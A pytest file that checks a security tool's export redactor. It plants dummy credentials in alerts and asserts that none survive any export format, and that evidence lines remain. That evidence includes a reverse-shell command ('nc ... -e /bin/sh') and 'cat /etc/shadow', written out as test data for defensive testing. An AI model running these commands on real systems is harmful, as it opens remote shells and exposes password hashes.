"""Redaction: none of the secrets that are planted in a session survives in any format, and the evidence does."""

from __future__ import annotations

import base64
import time
from pathlib import Path

import pytest

from sentinel_engine.describe import message_of
from sentinel_engine.export.redact import Redactor
from sentinel_engine.export.write import Format
from sentinel_engine.snapshot import Action
from tests.engine.export_kit import S, alert, exported, opened, record, session

# What must not survive, and the arguments that give it away.
PLANTED = {
    "hunter2.": ("mysql", "-u", "root", "-phunter2.", "shop"),
    "Tr0ub4dor&3": ("mysqldump", "--password=Tr0ub4dor&3", "shop"),
    "correct horse": ("sshpass", "-p", "correct horse", "ssh", "db"),
    "swordfish": ("env", "PGPASSWORD=swordfish", "psql"),
    "0penSesame": ("app", "--db-password", "0penSesame"),
    "k33pass-out": ("openssl", "enc", "-k", "k33pass-out"),
    "in-pass-7": ("openssl", "rsa", "-passin", "pass:in-pass-7"),
    "s3cr3tuser:pw9": ("curl", "-su", "s3cr3tuser:pw9", "http://10.0.0.5/"),
    "urlpw77": ("git", "clone", "https://bob:urlpw77@git.example.org/x.git"),
    "ya29.a0AfH6SMBx": ("curl", "-H", "Authorization: Bearer ya29.a0AfH6SMBx", "http://10.0.0.5/"),
    "dXNlcjpwYXNz": ("curl", "--header", "Authorization: Basic dXNlcjpwYXNz"),
    "sid=90210": ("curl", "-H", "Cookie: sid=90210"),
    "AKIAIOSFODNN7EXAMPLE": ("aws", "configure", "set", "aws_access_key_id", "AKIAIOSFODNN7EXAMPLE"),
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY": ("x", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    "ghp_16C7e42F292c6912E7": ("git", "push", "https://ghp_16C7e42F292c6912E7@github.com/x"),
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIi": ("x", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIi.SflKxw"),
    "MIIEpAIBAAKCAQEA": ("sh", "-c", "echo -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA"),
    "9f86d081884c7d659a2feaa0c55ad015": ("login", "9f86d081884c7d659a2feaa0c55ad015"),
    "r3disPw": ("redis-cli", "-h", "cache", "-a", "r3disPw"),
    "ldapPw1": ("ldapsearch", "-x", "-D", "cn=admin", "-w", "ldapPw1"),
    "in-a-shell-1": ("sh", "-c", "mysql -u root -pin-a-shell-1 <dump.sql"),
    "in-a-shell-2": ("sh", "-c", 'export API_KEY="in-a-shell-2"; ./deploy'),
    "in-a-json-3": ("curl", "-d", '{"user": "x", "password": "in-a-json-3"}'),
    "T0P/B0B/w3bh00k": ("curl", "https://hooks.slack.com/services/T0P/B0B/w3bh00k"),
    "query-s1g": ("wget", "https://x.example.org/f?a=1&sig=query-s1g"),
}  # fmt: skip
EVIDENCE = ("cat /etc/shadow", "/tmp/.x/payload", "nc 10.0.0.5 4444 -e /bin/sh", "/usr/lib/x86_64-linux-gnu/libc.so.6")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Each secret in arguments, message, log, event field and raw twin of its own alert; homes everywhere."""
    alerts = []
    for n, (secret, command) in enumerate(PLANTED.items()):
        argv = (*command, "/home/alice/.ssh/id_rsa")
        alerts.append(alert(
            (10 + n) * S, argv=argv, message=message_of("{comm} ran {argv}", {"comm": argv[0], "argv": list(argv)}),
            logs=(f"saw {secret} in /home/alice/x",), path=f"/root/dump/{secret}", cwd="/home/alice",
            raw_b64={"argv": {"1": base64.b64encode(secret.encode()).decode()}},
        ))  # fmt: skip
    for n, line in enumerate(EVIDENCE):
        alerts.append(alert((100 + n) * S, argv=tuple(line.split()), message=line))
    made = session(tmp_path_factory.mktemp("redact"), *alerts)
    record(made / "events-000001.rec", [opened(b"/home/alice/swordfish", 12 * S), opened(b"/root/urlpw77", 17 * S)])
    return made


@pytest.mark.parametrize("form", Format)
def test_no_planted_secret_survives_in_any_format(folder: Path, form: Format) -> None:
    plain, redacted = exported(folder, form).decode(), exported(folder, form, redact=True).decode()
    # JSON in JSON, HTML and CSV write some characters their own way; what is left of each secret is looked for.
    for secret in PLANTED:
        core = max(secret.replace("&", " ").split(), key=len)
        assert core in plain, "the test plants nothing"
        assert core not in redacted
        assert base64.b64encode(secret.encode()).decode() not in redacted
    assert "alice" not in redacted
    assert "/root" not in redacted
    assert "raw_b64" not in redacted
    assert "[redacted]" in redacted
    assert "/home/[user]" in redacted


def test_the_evidence_stays(folder: Path) -> None:
    redacted = exported(folder, redact=True).decode()
    for line in EVIDENCE:
        assert line in redacted
    assert "ab" * 32 in redacted  # a rule's hash is no secret
    assert "mysql" in redacted
    assert "http://10.0.0.5/" in redacted


@pytest.mark.parametrize(
    "text",
    [
        "PWD=/srv/www ls", "/usr/share/doc/linux-image-6.1.0-13-amd64/Changelog-2024-AbCdEfGh.gz", "author of token",
        "--password-file /etc/app/pw", "keyboard: us", "O_RDONLY|O_CLOEXEC", "tar -p x", "/rooted", "/srv/root/x",
        "systemd-private-network-manager-dispatcher", "docker run -p 80:80 nginx",
    ],
)  # fmt: skip
def test_what_is_no_secret_is_left_alone(text: str) -> None:
    assert Redactor().redact([text]) == [text]


def test_what_is_a_secret_in_one_place_is_one_in_all(tmp_path: Path) -> None:
    action = Action("t", "kill", "app --token abc.def", "killed the one with abc.def", "0")
    said = Redactor().redact(action)
    assert (said.target, said.detail) == ("app --token [redacted]", "killed the one with [redacted]")
    assert Redactor().redact(said) == said


def test_a_message_that_was_cut_in_the_secret(tmp_path: Path) -> None:
    message = message_of("ran {argv}", {"argv": ["x" * 480, "--password=hunter2-and-a-lot-more"]})
    assert message.endswith("…")
    assert "hunter2" not in Redactor().redact([message])[0]


@pytest.mark.parametrize(
    "text",
    [
        "a" * 4096, "-" * 4096, "password" * 512, "-p " * 1365, "mysql " * 682, "=" * 4096, "://" * 1365,
        "-----BEGIN PRIVATE KEY-----" * 151, "/home/" * 682, "--password " * 372, "eyJ" * 1365, "token=" * 682,
        "api-key-" * 512, "mysql -" * 585, "a.b-c_d+" * 512,
    ],
    ids=lambda text: text[:12],
)  # fmt: skip
def test_no_text_keeps_it_busy(text: str) -> None:
    """The text is an attacker's: a pattern that goes back over it again and again would hold up the export."""
    began = time.process_time()
    Redactor().redact([text])
    Redactor().redact({"argv": ["mysql", *(text[at : at + 8] for at in range(0, len(text), 8))]})
    assert time.process_time() - began < 0.5
